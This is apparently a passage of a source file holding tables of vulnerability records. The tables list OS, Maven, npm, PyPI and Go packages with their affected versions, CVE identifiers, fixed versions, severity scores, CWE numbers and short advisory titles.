1 | CVE-2025-26519 | musl musl-utils | 1.2.4-r3 | high | 8.1 | 787 | musl: input-controlled out-of-bounds write primitive in iconv()
1 | CVE-2024-13176 | libcrypto3 libssl3 | 3.1.8-r0 | medium | 5.3 | 385 | openssl: timing side-channel in ECDSA signature computation
1 | CVE-2025-29087 | sqlite-libs | 3.41.2-r4 | medium | 5.9 | 190 | sqlite: integer overflow in concat_ws function
1 | CVE-2025-31498 | c-ares | 1.34.5-r0 | high | 8.1 | 416 | c-ares: c-ares has a use-after-free in read_answers()
1 | CVE-2025-0725  | libcurl curl | 8.12.0-r0 | low | 3.7 | 680 | libcurl: buffer overflow in libcurl via zlib integer overflow
2 | CVE-2025-9230  | libcrypto3 libssl3 | 3.1.8-r1 | high | 7.5 | 787 | openssl: out-of-bounds read and write in RFC 3211 KEK unwrap
2 | CVE-2025-9232  | libcrypto3 libssl3 | 3.1.8-r1 | medium | 5.9 | 125 | openssl: out-of-bounds read in HTTP client no_proxy handling
2 | CVE-2025-59375 | libexpat | 2.7.2-r0 | high | 7.5 | 770 | expat: libexpat allows attackers to trigger large dynamic memory allocations via a small document
2 | CVE-2024-58251 | busybox ssl_client | - | low | 3.3 | 150 | busybox: netstat in BusyBox allows local users to launch network applications with a terminal escape sequence in argv[0]
2 | CVE-2025-9086  | libcurl curl | 8.14.1-r2 | high | 7.5 | 125 | curl: out of bounds read for cookie path
"""
# Language packages. group | package | version | id | fixed | severity | score | CWE | title
MAVEN = """
0 | org.springframework:spring-web | 5.3.17 | CVE-2024-22243 | 5.3.32 | high | 8.1 | 601 | springframework: URL parsing with host validation
0 | org.springframework:spring-web | 5.3.17 | CVE-2024-22262 | 5.3.34 | high | 8.1 | 601 | springframework: URL parsing with host validation may lead to open redirect
0 | org.springframework:spring-web | 5.3.17 | CVE-2024-38809 | 5.3.38 | medium | 5.3 | 1333 | spring-web: DoS via conditional HTTP request
0 | org.springframework:spring-beans | 5.3.17 | CVE-2022-22970 | 5.3.20 | medium | 5.3 | 770 | springframework: DoS via data binding to multipartFile or servlet part
0 | org.springframework:spring-expression | 5.3.17 | CVE-2023-20861 | 5.3.26 | medium | 6.5 | 770 | springframework: Spring Expression DoS vulnerability
0 | org.springframework:spring-expression | 5.3.17 | CVE-2023-20863 | 5.3.27 | high | 7.5 | 400 | springframework: Spring Expression DoS vulnerability by crafted SpEL expression
0 | org.springframework:spring-expression | 5.3.17 | CVE-2024-38808 | 5.3.39 | medium | 4.3 | 770 | spring-expression: denial of service when processing a specially crafted SpEL expression
0 | org.springframework:spring-context | 5.3.17 | CVE-2022-22968 | 5.3.19 | medium | 5.3 | 178 | springframework: Spring Framework data binding rules vulnerability
0 | org.springframework:spring-webmvc | 5.3.17 | CVE-2024-38816 | 6.1.13 | high | 7.5 | 22 | spring-webmvc: path traversal vulnerability in Spring applications using RouterFunctions
0 | org.springframework:spring-webmvc | 5.3.17 | CVE-2024-38828 | 5.3.42 | medium | 5.3 | 400 | spring-webmvc: DoS via Spring MVC controller method with byte array parameter
0 | org.springframework.security:spring-security-core | 5.6.2 | CVE-2024-22257 | 5.7.12 | high | 8.1 | 287 | spring-security: broken access control with direct use of AuthenticatedVoter
0 | com.fasterxml.jackson.core:jackson-databind | 2.13.2 | CVE-2020-36518 | 2.13.2.1 | high | 7.5 | 787 | jackson-databind: denial of service via a large depth of nested objects
0 | com.fasterxml.jackson.core:jackson-databind | 2.13.2 | CVE-2022-42003 | 2.13.4.2 | high | 7.5 | 502 | jackson-databind: deep wrapper array nesting wrt UNWRAP_SINGLE_VALUE_ARRAYS
0 | com.fasterxml.jackson.core:jackson-databind | 2.13.2 | CVE-2022-42004 | 2.13.4 | high | 7.5 | 502 | jackson-databind: use of deeply nested arrays
0 | org.yaml:snakeyaml | 1.29 | CVE-2022-25857 | 1.31 | high | 7.5 | 776 | snakeyaml: denial of service due to missing nested depth limitation for collections
0 | org.yaml:snakeyaml | 1.29 | CVE-2022-38749 | 1.31 | medium | 6.5 | 121 | snakeyaml: uncaught exception in org.yaml.snakeyaml.composer.Composer.composeSequenceNode
0 | org.yaml:snakeyaml | 1.29 | CVE-2022-38751 | 1.31 | medium | 6.5 | 121 | snakeyaml: uncaught exception in java.base/java.util.regex.Pattern$Ques.match
0 | org.yaml:snakeyaml | 1.29 | CVE-2022-41854 | 1.32 | medium | 6.5 | 121 | dev-java/snakeyaml: DoS via stack overflow
0 | io.netty:netty-codec-http | 4.1.77.Final | CVE-2022-41915 | 4.1.86.Final | medium | 6.5 | 113 | netty-codec-http: HTTP response splitting from assigning header value iterator
0 | io.netty:netty-codec-http | 4.1.77.Final | CVE-2024-29025 | 4.1.108.Final | medium | 5.3 | 770 | netty-codec-http: allocation of resources without limits or throttling
0 | io.netty:netty-handler | 4.1.77.Final | CVE-2023-34462 | 4.1.94.Final | medium | 6.5 | 400 | netty: SniHandler 16MB allocation leads to OOM
0 | io.netty:netty-common | 4.1.77.Final | CVE-2024-47535 | 4.1.115.Final | medium | 5.5 | 400 | netty: denial of service attack on windows app using Netty
0 | commons-io:commons-io | 2.6 | CVE-2021-29425 | 2.7 | medium | 5.3 | 22 | apache-commons-io: limited path traversal in Apache Commons IO 2.2 to 2.6
0 | commons-io:commons-io | 2.6 | CVE-2024-47554 | 2.14.0 | medium | 4.3 | 400 | apache-commons-io: possible denial of service attack on untrusted input to XmlStreamReader
0 | org.apache.commons:commons-compress | 1.20 | CVE-2021-35517 | 1.21 | high | 7.5 | 770 | apache-commons-compress: excessive memory allocation when reading a specially crafted TAR archive
0 | org.apache.commons:commons-compress | 1.20 | CVE-2024-25710 | 1.26.0 | medium | 5.5 | 835 | commons-compress: denial of service caused by an infinite loop for a corrupted DUMP file
0 | com.google.guava:guava | 30.1-jre | CVE-2023-2976 | 32.0.0-android | medium | 5.5 | 552 | guava: insecure temporary directory creation
0 | com.google.guava:guava | 30.1-jre | CVE-2020-8908 | 32.0.0-android | low | 3.3 | 732 | guava: local information disclosure via temporary directory created with unsafe permissions
0 | com.google.code.gson:gson | 2.8.6 | CVE-2022-25647 | 2.8.9 | high | 7.5 | 502 | com.google.code.gson-gson: deserialization of untrusted data
0 | com.google.protobuf:protobuf-java | 3.17.3 | CVE-2022-3171 | 3.19.6 | medium | 5.5 | 20 | protobuf-java: timeout in parser leads to DoS
0 | com.google.protobuf:protobuf-java | 3.17.3 | CVE-2024-7254 | 3.25.5 | high | 7.5 | 674 | protobuf: StackOverflow vulnerability in Protocol Buffers
0 | ch.qos.logback:logback-classic | 1.2.6 | CVE-2023-6378 | 1.2.13 | high | 7.3 | 502 | logback: serialization vulnerability in logback receiver
0 | ch.qos.logback:logback-core | 1.2.6 | CVE-2021-42550 | 1.2.9 | medium | 6.5 | 502 | logback: remote code execution through JNDI call from within its configuration file
0 | ch.qos.logback:logback-core | 1.2.6 | CVE-2024-12801 | 1.3.15 | low | 3.3 | 918 | logback-core: SaxEventRecorder vulnerable to server-side request forgery (SSRF) attacks
0 | org.apache.tomcat.embed:tomcat-embed-core | 9.0.65 | CVE-2022-42252 | 9.0.68 | high | 7.5 | 444 | tomcat: request smuggling
0 | org.apache.tomcat.embed:tomcat-embed-core | 9.0.65 | CVE-2023-41080 | 9.0.80 | medium | 6.1 | 601 | tomcat: open redirect vulnerability in FORM authentication
0 | org.apache.tomcat.embed:tomcat-embed-core | 9.0.65 | CVE-2023-42795 | 9.0.81 | medium | 5.3 | 459 | tomcat: improper cleaning of recycled objects could lead to information leak
0 | org.apache.tomcat.embed:tomcat-embed-core | 9.0.65 | CVE-2023-46589 | 9.0.83 | high | 7.5 | 444 | tomcat: HTTP request smuggling via malformed trailer headers
0 | org.apache.tomcat.embed:tomcat-embed-core | 9.0.65 | CVE-2024-34750 | 9.0.90 | high | 7.5 | 755 | tomcat: improper handling of exceptional conditions in HTTP/2 streams
0 | org.json:json | 20180813 | CVE-2023-5072 | 20231013 | high | 7.5 | 770 | JSON-java: parser confusion leads to OOM
0 | org.bouncycastle:bcprov-jdk15on | 1.68 | CVE-2023-33201 | - | medium | 5.3 | 295 | bouncycastle: potential blind LDAP injection attack using a self-signed certificate
0 | org.bouncycastle:bcprov-jdk15on | 1.68 | CVE-2023-33202 | - | medium | 5.5 | 400 | bc-java: out of memory while parsing ASN.1 crafted data in org.bouncycastle.openssl.PEMParser class
0 | com.jayway.jsonpath:json-path | 2.6.0 | CVE-2023-51074 | 2.9.0 | medium | 5.3 | 121 | json-path: stack-based buffer overflow in Criteria.parse method
0 | org.apache.kafka:kafka-clients | 2.8.1 | CVE-2023-25194 | 3.4.0 | high | 8.8 | 502 | kafka: RCE/DoS via SASL JAAS JndiLoginModule configuration in Kafka Connect
0 | org.xerial.snappy:snappy-java | 1.1.8.1 | CVE-2023-43642 | 1.1.10.4 | high | 7.5 | 770 | snappy-java: missing upper bound check on chunk length can lead to denial of service impact
1 | com.nimbusds:nimbus-jose-jwt | 9.22 | CVE-2025-53864 | 10.0.2 | medium | 5.9 | 674 | nimbus-jose-jwt: uncontrolled recursion in Connect2id Nimbus JOSE + JWT
1 | com.fasterxml.jackson.core:jackson-core | 2.13.2 | CVE-2025-52999 | 2.15.0 | high | 7.5 | 121 | jackson-core: potential StackoverflowError in jackson-core
1 | io.netty:netty-common | 4.1.77.Final | CVE-2025-25193 | 4.1.118.Final | medium | 5.5 | 400 | netty: denial of service attack on windows app using Netty
1 | org.springframework:spring-context | 5.3.17 | CVE-2025-22233 | 6.1.20 | low | 3.3 | 20 | spring-context: DataBinder case insensitive match exception
1 | org.apache.tomcat.embed:tomcat-embed-core | 9.0.65 | CVE-2025-48988 | 9.0.106 | high | 7.5 | 770 | tomcat: Apache Tomcat DoS in multipart upload
1 | org.apache.tomcat.embed:tomcat-embed-core | 9.0.65 | CVE-2025-49125 | 9.0.106 | medium | 6.5 | 288 | tomcat: security constraint bypass for pre/post-resources
2 | io.netty:netty-codec-http | 4.1.77.Final | CVE-2025-58056 | 4.1.125.Final | low | 3.7 | 444 | netty-codec-http: Netty is vulnerable to request smuggling due to incorrect parsing of chunk extensions
2 | io.netty:netty-codec | 4.1.77.Final | CVE-2025-58057 | 4.1.125.Final | medium | 5.5 | 409 | netty-codec: Netty's BrotliDecoder is vulnerable to DoS via zip bomb style attack
2 | org.springframework:spring-core | 5.3.17 | CVE-2025-41249 | 6.2.11 | high | 7.5 | 285 | spring-core: annotation detection vulnerability
2 | org.apache.tomcat.embed:tomcat-embed-core | 9.0.65 | CVE-2025-55752 | 9.0.109 | high | 7.5 | 23 | tomcat: directory traversal via rewrite with possible RCE
2 | ch.qos.logback:logback-core | 1.2.6 | CVE-2025-11226 | 1.5.19 | medium | 6.5 | 20 | ch.qos.logback/logback-core: conditional processing of logback.xml configuration file
2 | org.apache.commons:commons-lang3 | 3.12.0 | CVE-2025-48924 | 3.18.0 | medium | 5.3 | 674 | commons-lang: uncontrolled recursion in ClassUtils.getClass
"""
NPM = """
0 | lodash | 4.17.15 | CVE-2020-8203 | 4.17.19 | high | 7.4 | 1321 | nodejs-lodash: prototype pollution in zipObjectDeep function
0 | lodash | 4.17.15 | CVE-2020-28500 | 4.17.21 | medium | 5.3 | 1333 | nodejs-lodash: ReDoS via the toNumber, trim and trimEnd functions
0 | axios | 0.21.1 | CVE-2021-3749 | 0.21.2 | high | 7.5 | 1333 | nodejs-axios: regular expression denial of service in trim function
0 | axios | 0.21.1 | CVE-2023-45857 | 0.28.0 | medium | 6.5 | 352 | axios: exposure of confidential data stored in cookies
0 | follow-redirects | 1.13.0 | CVE-2022-0155 | 1.14.7 | medium | 6.5 | 359 | follow-redirects: exposure of private personal information to an unauthorized actor
0 | follow-redirects | 1.13.0 | CVE-2023-26159 | 1.15.4 | medium | 6.1 | 601 | follow-redirects: improper input validation due to the improper handling of URLs by url.parse()
0 | follow-redirects | 1.13.0 | CVE-2024-28849 | 1.15.6 | medium | 6.5 | 200 | follow-redirects: possible credential leak
0 | json5 | 1.0.1 | CVE-2022-46175 | 1.0.2 | high | 8.8 | 1321 | json5: prototype pollution in JSON5 via parse method
0 | loader-utils | 1.4.0 | CVE-2022-37603 | 1.4.2 | high | 7.5 | 1333 | loader-utils: regular expression denial of service
0 | semver | 7.3.5 | CVE-2022-25883 | 7.5.2 | high | 7.5 | 1333 | nodejs-semver: regular expression denial of service
0 | word-wrap | 1.2.3 | CVE-2023-26115 | 1.2.4 | medium | 5.3 | 1333 | word-wrap: ReDoS
0 | tough-cookie | 2.5.0 | CVE-2023-26136 | 4.1.3 | medium | 6.5 | 1321 | tough-cookie: prototype pollution in cookie memstore
0 | qs | 6.5.2 | CVE-2022-24999 | 6.5.3 | high | 7.5 | 1321 | express: "qs" prototype poisoning causes the hang of the node process
0 | express | 4.17.1 | CVE-2024-29041 | 4.19.2 | medium | 6.1 | 601 | express: cause malformed URLs to be evaluated
0 | express | 4.17.1 | CVE-2024-43796 | 4.20.0 | low | 4.3 | 79 | express: improper input handling in Express redirects
0 | body-parser | 1.19.0 | CVE-2024-45590 | 1.20.3 | high | 7.5 | 405 | body-parser: denial of service vulnerability in body-parser
0 | send | 0.17.1 | CVE-2024-43799 | 0.19.0 | low | 4.3 | 79 | send: code execution vulnerability in Send Library
0 | serve-static | 1.14.1 | CVE-2024-43800 | 1.16.0 | low | 4.3 | 79 | serve-static: improper sanitization in serve-static
0 | path-to-regexp | 0.1.7 | CVE-2024-45296 | 0.1.10 | high | 7.5 | 1333 | path-to-regexp: backtracking regular expressions cause ReDoS
0 | cookie | 0.4.0 | CVE-2024-47764 | 0.7.0 | low | 3.7 | 74 | cookie: cookie accepts cookie name, path, and domain with out of bounds characters
0 | ws | 7.4.2 | CVE-2021-32640 | 7.4.6 | medium | 5.3 | 1333 | nodejs-ws: specially crafted value of the Sec-Websocket-Protocol header can be used to significantly slow down a ws server
0 | ws | 7.4.2 | CVE-2024-37890 | 7.5.10 | high | 7.5 | 476 | nodejs-ws: denial of service when handling a request with many HTTP headers
0 | nth-check | 1.0.2 | CVE-2021-3803 | 2.0.1 | high | 7.5 | 1333 | nodejs-nth-check: inefficient regular expression complexity
0 | glob-parent | 3.1.0 | CVE-2020-28469 | 5.1.2 | high | 7.5 | 400 | nodejs-glob-parent: regular expression denial of service
0 | decode-uri-component | 0.2.0 | CVE-2022-38900 | 0.2.1 | high | 7.5 | 20 | decode-uri-component: improper input validation resulting in DoS
0 | async | 2.6.3 | CVE-2021-43138 | 2.6.4 | high | 7.8 | 1321 | async: prototype pollution in async
0 | micromatch | 4.0.4 | CVE-2024-4067 | 4.0.8 | medium | 5.3 | 1333 | micromatch: vulnerable to regular expression denial of service
0 | braces | 3.0.2 | CVE-2024-4068 | 3.0.3 | high | 7.5 | 1050 | braces: fails to limit the number of characters it can handle
0 | jsonwebtoken | 8.5.1 | CVE-2022-23539 | 9.0.0 | high | 8.1 | 327 | jsonwebtoken: unrestricted key type could lead to legacy keys usage
0 | jsonwebtoken | 8.5.1 | CVE-2022-23540 | 9.0.0 | medium | 6.5 | 287 | jsonwebtoken: insecure default algorithm in jwt.verify() could lead to signature validation bypass
0 | moment | 2.29.1 | CVE-2022-24785 | 2.29.2 | high | 7.5 | 22 | Moment.js: path traversal in moment.locale
0 | moment | 2.29.1 | CVE-2022-31129 | 2.29.4 | high | 7.5 | 1333 | moment: inefficient parsing algorithm resulting in DoS
0 | postcss | 7.0.35 | CVE-2023-44270 | 8.4.31 | medium | 5.3 | 74 | PostCSS: improper input validation in PostCSS
0 | undici | 5.22.0 | CVE-2023-45143 | 5.26.2 | low | 3.3 | 200 | node-undici: cookie leakage
0 | undici | 5.22.0 | CVE-2024-30260 | 5.28.4 | low | 3.7 | 285 | undici: proxy-authorization header not cleared on cross-origin redirect for certain methods
0 | underscore | 1.9.1 | CVE-2021-23358 | 1.12.1 | high | 7.3 | 94 | nodejs-underscore: arbitrary code execution via the template function
0 | xml2js | 0.4.23 | CVE-2023-0842 | 0.5.0 | medium | 5.3 | 1321 | node-xml2js: prototype pollution
0 | tar | 4.4.13 | CVE-2021-37713 | 4.4.18 | high | 8.1 | 22 | nodejs-tar: arbitrary file creation/overwrite and arbitrary code execution vulnerability
0 | got | 9.6.0 | CVE-2022-33987 | 11.8.5 | medium | 5.3 | 601 | nodejs-got: missing verification of requested URLs allows redirects to UNIX sockets
0 | http-cache-semantics | 4.1.0 | CVE-2022-25881 | 4.1.1 | high | 7.5 | 1333 | http-cache-semantics: regular expression denial of service
0 | url-parse | 1.4.7 | CVE-2022-0512 | 1.5.6 | medium | 5.3 | 639 | url-parse: authorization bypass through user-controlled key
0 | nanoid | 3.1.20 | CVE-2021-23566 | 3.1.31 | medium | 5.5 | 704 | nanoid: information disclosure via valueOf() function
1 | cross-spawn | 6.0.5 | CVE-2024-21538 | 6.0.6 | high | 7.5 | 1333 | cross-spawn: regular expression denial of service
1 | undici | 5.22.0 | CVE-2025-22150 | 5.28.5 | medium | 6.5 | 330 | undici: Undici uses insufficiently random values
1 | axios | 0.21.1 | CVE-2025-27152 | 0.30.0 | high | 7.5 | 918 | axios: possible SSRF and credential leakage via absolute URL in axios requests
1 | nanoid | 3.1.20 | CVE-2024-55565 | 3.3.8 | medium | 4.3 | 835 | nanoid: nanoid mishandles non-integer values
1 | brace-expansion | 1.1.11 | CVE-2025-5889 | 1.1.12 | low | 3.3 | 400 | brace-expansion: juliangruber brace-expansion index.js expand redos
2 | axios | 0.21.1 | CVE-2025-58754 | 0.30.2 | high | 7.5 | 770 | axios: Axios DoS via lack of data size check
2 | on-headers | 1.0.2 | CVE-2025-7339 | 1.1.0 | low | 3.3 | 241 | on-headers: on-headers vulnerable to http response header manipulation
2 | multer | 1.4.5 | CVE-2025-47935 | 2.0.0 | high | 7.5 | 401 | multer: Multer vulnerable to denial of service via memory leaks from unclosed streams
2 | compression | 1.7.4 | CVE-2025-54371 | 1.8.1 | medium | 5.3 | 400 | compression: excessive memory use with attacker-controlled encodings
2 | tmp | 0.2.1 | CVE-2025-54798 | 0.2.4 | low | 3.3 | 59 | tmp: tmp allows arbitrary temporary file / directory write via symbolic link `dir` parameter
"""
PYPI = """
0 | requests | 2.25.1 | CVE-2023-32681 | 2.31.0 | medium | 6.1 | 200 | python-requests: unintended leak of Proxy-Authorization header
0 | requests | 2.25.1 | CVE-2024-35195 | 2.32.0 | medium | 5.5 | 670 | requests: subsequent requests to the same host ignore cert verification
0 | urllib3 | 1.26.4 | CVE-2021-33503 | 1.26.5 | high | 7.5 | 400 | python-urllib3: ReDoS in the parsing of authority part of URL
0 | urllib3 | 1.26.4 | CVE-2023-43804 | 1.26.17 | high | 8.1 | 200 | python-urllib3: Cookie request header isn't stripped during cross-origin redirects
0 | urllib3 | 1.26.4 | CVE-2023-45803 | 1.26.18 | medium | 4.3 | 200 | urllib3: request body not stripped after redirect from 303 status changes request method to GET
0 | urllib3 | 1.26.4 | CVE-2024-37891 | 1.26.19 | medium | 4.3 | 669 | urllib3: proxy-authorization request header is not stripped during cross-origin redirects
0 | certifi | 2020.12.5 | CVE-2023-37920 | 2023.7.22 | high | 7.5 | 345 | python-certifi: removal of e-Tugra root certificate
0 | certifi | 2020.12.5 | CVE-2022-23491 | 2022.12.07 | medium | 6.5 | 345 | python-certifi: untrusted root certificates
0 | idna | 2.10 | CVE-2024-3651 | 3.7 | medium | 5.5 | 400 | python-idna: potential DoS via resource consumption via specially crafted inputs to idna.encode()
0 | Jinja2 | 2.11.3 | CVE-2024-22195 | 3.1.3 | medium | 6.1 | 79 | jinja2: HTML attribute injection when passing user input as keys to xmlattr filter
0 | Jinja2 | 2.11.3 | CVE-2024-34064 | 3.1.4 | medium | 5.3 | 79 | jinja2: accepts keys containing non-attribute characters
0 | Django | 3.2.13 | CVE-2022-36359 | 3.2.15 | high | 8.8 | 494 | python-django: reflected file download
0 | Django | 3.2.13 | CVE-2023-36053 | 3.2.20 | high | 7.5 | 1333 | python-django: potential regular expression denial of service vulnerability in EmailValidator/URLValidator
0 | Django | 3.2.13 | CVE-2023-43665 | 3.2.22 | high | 7.5 | 1284 | python-django: denial-of-service possibility in django.utils.text.Truncator
0 | Django | 3.2.13 | CVE-2024-24680 | 3.2.24 | high | 7.5 | 400 | django: denial-of-service in intcomma template filter
0 | Django | 3.2.13 | CVE-2024-27351 | 3.2.25 | medium | 5.3 | 1333 | python-django: potential regular expression denial-of-service in django.utils.text.Truncator.words()
0 | Pillow | 9.0.0 | CVE-2023-44271 | 10.0.0 | high | 7.5 | 770 | python-pillow: uncontrolled resource consumption when textlength in an ImageDraw instance operates on a long text argument
0 | Pillow | 9.0.0 | CVE-2024-28219 | 10.3.0 | medium | 6.5 | 120 | python-pillow: buffer overflow in _imagingcms.c
0 | cryptography | 3.4.7 | CVE-2023-0286 | 39.0.1 | high | 7.4 | 843 | openssl: X.400 address type confusion in X.509 GeneralName
0 | cryptography | 3.4.7 | CVE-2023-23931 | 39.0.1 | medium | 6.5 | 754 | python-cryptography: memory corruption via immutable objects
0 | cryptography | 3.4.7 | CVE-2023-50782 | 42.0.0 | high | 7.5 | 208 | python-cryptography: Bleichenbacher timing oracle attack against RSA decryption
0 | cryptography | 3.4.7 | CVE-2024-26130 | 42.0.4 | high | 7.5 | 476 | python-cryptography: NULL pointer dereference with pkcs12.serialize_key_and_certificates
0 | setuptools | 57.0.0 | CVE-2022-40897 | 65.5.1 | medium | 5.9 | 1333 | pypa-setuptools: regular expression denial of service (ReDoS) in package_index.py
0 | setuptools | 57.0.0 | CVE-2024-6345 | 70.0.0 | high | 8.8 | 94 | pypa/setuptools: remote code execution via download functions in the package_index module
0 | wheel | 0.36.2 | CVE-2022-40898 | 0.38.1 | high | 7.5 | 400 | python-wheel: remote attackers can cause denial of service via attacker controlled input to wheel cli
0 | pip | 21.1.1 | CVE-2023-5752 | 23.3 | low | 3.3 | 77 | pip: Mercurial configuration injectable in repo revision when installing via pip
0 | Werkzeug | 1.0.1 | CVE-2023-25577 | 2.2.3 | high | 7.5 | 770 | python-werkzeug: high resource usage when parsing multipart form data with many fields
0 | Werkzeug | 1.0.1 | CVE-2023-23934 | 2.2.3 | low | 3.3 | 20 | python-werkzeug: cookie prefixed with = can shadow unprefixed cookie
0 | Flask | 1.1.2 | CVE-2023-30861 | 2.2.5 | high | 7.5 | 488 | flask: possible disclosure of permanent session cookie due to missing Vary: Cookie header
0 | numpy | 1.19.5 | CVE-2021-34141 | 1.22 | medium | 5.3 | 697 | numpy: incorrect comparison in numpy.core
0 | aiohttp | 3.8.4 | CVE-2023-49081 | 3.9.0 | medium | 6.5 | 20 | aiohttp: HTTP request modification
0 | aiohttp | 3.8.4 | CVE-2024-23334 | 3.9.2 | high | 7.5 | 22 | aiohttp: follow_symlinks directory traversal vulnerability
0 | gunicorn | 20.1.0 | CVE-2024-1135 | 22.0.0 | high | 7.5 | 444 | python-gunicorn: HTTP request smuggling via improper validation of Transfer-Encoding headers
0 | protobuf | 3.18.0 | CVE-2022-1941 | 3.18.3 | high | 7.5 | 119 | protobuf: message parsing vulnerability that may lead to an out of memory
0 | sqlparse | 0.4.1 | CVE-2024-4340 | 0.5.0 | high | 7.5 | 674 | sqlparse: parsing heavily nested list leads to denial of service
0 | tqdm | 4.60.0 | CVE-2024-34062 | 4.66.3 | low | 3.3 | 74 | python-tqdm: non-boolean CLI arguments may lead to local code execution
0 | scikit-learn | 0.24.2 | CVE-2024-5206 | 1.5.0 | medium | 5.3 | 922 | scikit-learn: possible sensitive data leak
1 | requests | 2.25.1 | CVE-2024-47081 | 2.32.4 | medium | 5.3 | 522 | requests: Requests vulnerable to .netrc credentials leak via malicious URLs
1 | setuptools | 57.0.0 | CVE-2025-47273 | 78.1.1 | high | 8.8 | 22 | setuptools: path traversal vulnerability in setuptools PackageIndex
1 | urllib3 | 1.26.4 | CVE-2025-50181 | 2.5.0 | medium | 5.3 | 601 | urllib3: urllib3 redirects are not disabled when retries are disabled on PoolManager instantiation
1 | protobuf | 3.18.0 | CVE-2025-4565 | 4.25.8 | high | 7.5 | 674 | python-protobuf: unbounded recursion in Python Protobuf
1 | Jinja2 | 2.11.3 | CVE-2025-27516 | 3.1.6 | medium | 5.5 | 1336 | jinja2: Jinja sandbox breakout through attr filter selecting format method
2 | Django | 3.2.13 | CVE-2025-57833 | 4.2.24 | high | 7.5 | 89 | django: Django SQL injection in FilteredRelation
2 | Django | 3.2.13 | CVE-2025-48432 | 4.2.22 | medium | 4.3 | 117 | django: Django path injection vulnerability
2 | aiohttp | 3.8.4 | CVE-2025-53643 | 3.12.14 | low | 3.7 | 444 | aiohttp: AIOHTTP HTTP request/response smuggling
2 | pip | 21.1.1 | CVE-2025-8869 | 25.3 | medium | 5.9 | 22 | pip: pip missing checks on symbolic link extraction
"""
GOLANG = """
0 | golang.org/x/net | v0.7.0 | CVE-2023-39325 | 0.17.0 | high | 7.5 | 770 | golang: net/http, x/net/http2: rapid stream resets can cause excessive work
0 | golang.org/x/net | v0.7.0 | CVE-2023-44487 | 0.17.0 | high | 7.5 | 400 | HTTP/2: multiple HTTP/2 enabled web servers are vulnerable to a DDoS attack (Rapid Reset Attack)
0 | golang.org/x/net | v0.7.0 | CVE-2023-3978 | 0.13.0 | medium | 6.1 | 79 | golang.org/x/net/html: cross site scripting
0 | golang.org/x/net | v0.7.0 | CVE-2023-45288 | 0.23.0 | medium | 5.3 | 770 | golang: net/http, x/net/http2: unlimited number of CONTINUATION frames causes DoS
0 | golang.org/x/net | v0.7.0 | CVE-2024-45338 | 0.33.0 | high | 7.5 | 1333 | golang.org/x/net/html: non-linear parsing of case-insensitive content in golang.org/x/net/html
0 | golang.org/x/crypto | v0.6.0 | CVE-2023-48795 | 0.17.0 | medium | 5.9 | 354 | ssh: prefix truncation attack on Binary Packet Protocol (BPP)
0 | golang.org/x/text | v0.3.7 | CVE-2022-32149 | 0.3.8 | high | 7.5 | 772 | golang: golang.org/x/text/language: ParseAcceptLanguage takes a long time to parse complex tags
0 | google.golang.org/protobuf | v1.28.1 | CVE-2024-24786 | 1.33.0 | medium | 5.9 | 835 | golang-protobuf: infinite loop in unmarshaling certain forms of invalid JSON
0 | stdlib | v1.20.5 | CVE-2023-29409 | 1.20.7 | medium | 5.3 | 400 | golang: crypto/tls: slow verification of certificate chains containing large RSA keys
0 | stdlib | v1.20.5 | CVE-2023-39318 | 1.20.8 | medium | 6.1 | 79 | golang: html/template: improper handling of HTML-like comments within script contexts
0 | stdlib | v1.20.5 | CVE-2023-39319 | 1.20.8 | medium | 6.1 | 79 | golang: html/template: improper handling of special tags within script contexts
0 | stdlib | v1.20.5 | CVE-2023-45283 | 1.20.11 | high | 7.5 | 22 | golang: filepath: the filepath package does not recognize paths with a \\??\\ prefix as special
0 | stdlib | v1.20.5 | CVE-2023-45289 | 1.21.8 | medium | 4.3 | 200 | golang: net/http/cookiejar: incorrect forwarding of sensitive headers and cookies on HTTP redirect
0 | stdlib | v1.20.5 | CVE-2023-45290 | 1.21.8 | medium | 6.5 | 400 | golang: net/http: memory exhaustion in Request.ParseMultipartForm
0 | stdlib | v1.20.5 | CVE-2024-24783 | 1.21.8 | medium | 5.9 | 476 | golang: crypto/x509: verify panics on certificates with an unknown public key algorithm
0 | stdlib | v1.20.5 | CVE-2024-24784 | 1.21.8 | high | 7.5 | 115 | golang: net/mail: comments in display names are incorrectly handled
0 | stdlib | v1.20.5 | CVE-2024-24789 | 1.21.11 | medium | 5.5 | 390 | golang: archive/zip: incorrect handling of certain ZIP files
0 | stdlib | v1.20.5 | CVE-2024-34155 | 1.22.7 | medium | 4.3 | 674 | go/parser: calling any of the Parse functions containing deeply nested literals can cause a panic
0 | stdlib | v1.20.5 | CVE-2024-34156 | 1.22.7 | high | 7.5 | 674 | encoding/gob: calling Decoder.Decode on a message which contains deeply nested structures can cause a panic
0 | github.com/golang-jwt/jwt/v4 | v4.4.3 | CVE-2024-51744 | 4.5.1 | low | 3.3 | 755 | golang-jwt: bad documentation of error handling in ParseWithClaims can lead to potentially dangerous situations
0 | gopkg.in/yaml.v3 | v3.0.0 | CVE-2022-28948 | 3.0.1 | high | 7.5 | 502 | golang-gopkg-yaml: crash when attempting to deserialize invalid input
0 | github.com/gin-gonic/gin | v1.8.1 | CVE-2023-26125 | 1.9.0 | medium | 5.3 | 20 | golang-github-gin-gonic-gin: improper input validation
0 | github.com/prometheus/client_golang | v1.11.0 | CVE-2022-21698 | 1.11.1 | high | 7.5 | 770 | prometheus/client_golang: denial of service using InstrumentHandlerCounter
0 | github.com/hashicorp/go-retryablehttp | v0.7.1 | CVE-2024-6104 | 0.7.7 | medium | 5.5 | 532 | go-retryablehttp: url might write sensitive information to log file
1 | golang.org/x/net | v0.7.0 | CVE-2025-22870 | 0.36.0 | medium | 4.3 | 115 | golang.org/x/net/proxy: HTTP proxy bypass using IPv6 zone IDs in golang.org/x/net
1 | golang.org/x/crypto | v0.6.0 | CVE-2025-22869 | 0.35.0 | high | 7.5 | 770 | golang.org/x/crypto/ssh: denial of service in the key exchange of golang.org/x/crypto/ssh
1 | github.com/golang-jwt/jwt/v4 | v4.4.3 | CVE-2025-30204 | 4.5.2 | high | 7.5 | 405 | golang-jwt/jwt: jwt-go allows excessive memory allocation during header parsing
1 | stdlib | v1.20.5 | CVE-2025-4673 | 1.23.10 | medium | 6.5 | 201 | net/http: sensitive headers not cleared on cross-origin redirect in net/http
2 | golang.org/x/net | v0.7.0 | CVE-2025-22872 | 0.38.0 | medium | 6.5 | 79 | golang.org/x/net/html: incorrect neutralization of input during web page generation in x/net
2 | stdlib | v1.20.5 | CVE-2025-47906 | 1.23.12 | medium | 6.5 | 115 | os/exec: unexpected paths returned from LookPath in os/exec
